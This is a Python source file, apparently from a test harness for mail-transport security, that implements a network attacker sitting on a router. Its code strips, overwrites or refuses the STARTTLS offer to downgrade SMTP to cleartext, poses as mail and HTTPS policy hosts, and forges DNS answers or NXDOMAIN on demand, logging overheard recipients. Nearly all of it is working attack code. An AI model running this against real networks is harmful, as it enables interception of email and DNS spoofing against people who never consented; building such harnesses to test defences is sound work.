# SPDX-License-Identifier: Apache-2.0
"""attacker: a program: whoever sits on the router. It answers at every
address the router has claimed, passes SMTP on to the real host at its other
address and changes it on the way, or poses as that host; poses as policy
hosts; and stands between resolver and name server. The configuration is a
JSON file:
{"records": path, "switch": path,
 "dns": {"listen": address, "upstream": address},
 "smtp": {address: {"kind": one of RELAYS or "pose", "upstream": address,
                    "pem": path, "old": bool, "injected": text}},
 "https": {address: {"kind": see policy_host, "pem": path}},
 "policies": {host: text},
 "answers": {"NAME TYPE": [rdata, ...] or null for NXDOMAIN}}
DNS answers are forged while the file "switch" exists.

usage: attacker.py CONFIG"""

import asyncio
import json
import sys
from pathlib import Path

import dns.flags
import dns.message
import dns.rcode
import dns.rdatatype
import dns.rrset

import policy_host
import records
from authority import server_context
from smtp_server import serve

UPSTREAM_S = 5
OFFER = b"STARTTLS\r\n"


def strip(line):
    """The offer of STARTTLS is taken out."""
    return b"" if line == b"250-" + OFFER else line


def junk(line):
    """The offer of STARTTLS is overwritten."""
    return line.replace(b"STARTTLS", b"XXXXXXXX")


def unchanged(line):
    return line


# kind -> what becomes of a line from the server, and what the attacker says
# to STARTTLS himself.
RELAYS = {
    "strip": (strip, None),
    "junk": (junk, None),
    "refuse": (unchanged, b"454 4.7.0 TLS not available\r\n"),
    "error": (unchanged, b"500 5.5.1 unrecognized\r\n"),
}


class Relay:
    """One SMTP connection passed on to the real host, in clear."""

    def __init__(self, reader, writer, rule, record):
        self.reader = reader
        self.writer = writer
        self.change, self.refusal = RELAYS[rule["kind"]]
        self.upstream = rule["upstream"]
        self.record = record
        self.recipients = []

    async def run(self):
        server, to_server = await asyncio.open_connection(self.upstream, 25)
        down = asyncio.create_task(self._down(server))
        try:
            while line := await self.reader.readline():
                if self.refusal and line.upper() == OFFER:
                    self.writer.write(self.refusal)
                    continue
                self._overhear(line)
                to_server.write(line)
                await to_server.drain()
        finally:
            to_server.close()
            down.cancel()
            self.writer.close()

    async def _down(self, server):
        while line := await server.readline():
            self.writer.write(self.change(line))
            await self.writer.drain()
        self.writer.close()

    def _overhear(self, line):
        if line.upper().startswith(b"RCPT TO:<"):
            self.recipients.append(line[9:].split(b">")[0].decode())
        if line == b".\r\n":
            for to in self.recipients:
                self.record({"who": "attacker", "to": to, "tls": None})
            self.recipients = []


class NameServer(asyncio.DatagramProtocol):
    """DNS over UDP and TCP: answers of our own for some questions while the
    attack lasts, else the real server's."""

    def __init__(self, config):
        self.answers = config["answers"]
        self.switch = Path(config["switch"])
        self.upstream = config["dns"]["upstream"]
        self.transport = None

    def connection_made(self, transport):
        self.transport = transport

    def datagram_received(self, data, addr):
        reply = self.forged(data)
        if reply is not None:
            self.transport.sendto(reply, addr)
        else:
            asyncio.get_running_loop().create_task(self._ask(data, addr))

    async def _ask(self, data, addr):
        loop = asyncio.get_running_loop()
        done = loop.create_future()
        transport, _ = await loop.create_datagram_endpoint(
            lambda: Once(data, done), remote_addr=(self.upstream, 53))
        try:
            self.transport.sendto(
                await asyncio.wait_for(done, UPSTREAM_S), addr)
        except (OSError, asyncio.TimeoutError):
            pass
        finally:
            transport.close()

    async def tcp(self, reader, writer):
        """One connection, as many questions as there are."""
        try:
            while True:
                data = await self._message(reader)
                reply = self.forged(data)
                if reply is None:
                    reply = await self._ask_tcp(data)
                writer.write(len(reply).to_bytes(2, "big") + reply)
                await writer.drain()
        except (OSError, asyncio.IncompleteReadError):
            pass
        finally:
            writer.close()

    @staticmethod
    async def _message(reader):
        size = int.from_bytes(await reader.readexactly(2), "big")
        return await reader.readexactly(size)

    async def _ask_tcp(self, data):
        reader, writer = await asyncio.open_connection(self.upstream, 53)
        try:
            writer.write(len(data).to_bytes(2, "big") + data)
            return await self._message(reader)
        finally:
            writer.close()

    def forged(self, data):
        """The attacker's answer, or None to pass the question on."""
        query = dns.message.from_wire(data)
        if not self.switch.exists() or not query.question:
            return None
        question = query.question[0]
        kind = dns.rdatatype.to_text(question.rdtype)
        name = question.name.to_text(omit_final_dot=True).lower()
        if f"{name} {kind}" not in self.answers:
            return None
        reply = dns.message.make_response(query)
        reply.flags |= dns.flags.AA
        texts = self.answers[f"{name} {kind}"]
        if texts is None:
            reply.set_rcode(dns.rcode.NXDOMAIN)
        else:
            reply.answer.append(dns.rrset.from_text(
                question.name, 1, "IN", kind, *texts))
        return reply.to_wire()


class Once(asyncio.DatagramProtocol):
    """One question to the real name server."""

    def __init__(self, data, done):
        self.data = data
        self.done = done

    def connection_made(self, transport):
        transport.sendto(self.data)

    def datagram_received(self, data, _addr):
        if not self.done.done():
            self.done.set_result(data)

    def error_received(self, exc):
        if not self.done.done():
            self.done.set_exception(exc)


class Attacker:
    """The three services over one configuration."""

    def __init__(self, config):
        self.config = config
        self.record = records.writer(config["records"])

    def overheard(self, what):
        self.record({"who": "attacker", "to": what["to"],
                     "tls": what["tls"]})

    async def smtp(self, reader, writer):
        address = writer.get_extra_info("sockname")[0]
        rule = self.config["smtp"].get(address, {"kind": "pose"})
        try:
            if rule["kind"] in RELAYS:
                await Relay(reader, writer, rule, self.record).run()
                return
            tls = None
            if "pem" in rule:
                tls = server_context(rule["pem"], rule.get("old", False))
            await serve(reader, writer, record=self.overheard, tls=tls,
                        injected=rule.get("injected", "").encode())
        except OSError:
            writer.close()

    async def start_https(self, address, rule):
        async def client(reader, writer):
            await policy_host.answer(reader, writer, self.config["policies"],
                                     rule["kind"], self.record)

        await asyncio.start_server(client, address, 443,
                                   ssl=server_context(rule["pem"]))

    async def run(self):
        loop = asyncio.get_running_loop()
        where = self.config["dns"]["listen"]
        _, server = await loop.create_datagram_endpoint(
            lambda: NameServer(self.config), local_addr=(where, 53))
        await asyncio.start_server(server.tcp, where, 53)
        for address, rule in self.config["https"].items():
            await self.start_https(address, rule)
        for port in (587, 25):
            await asyncio.start_server(self.smtp, "0.0.0.0", port)
        await loop.create_future()


if __name__ == "__main__":
    asyncio.run(Attacker(json.loads(Path(sys.argv[1]).read_text())).run())
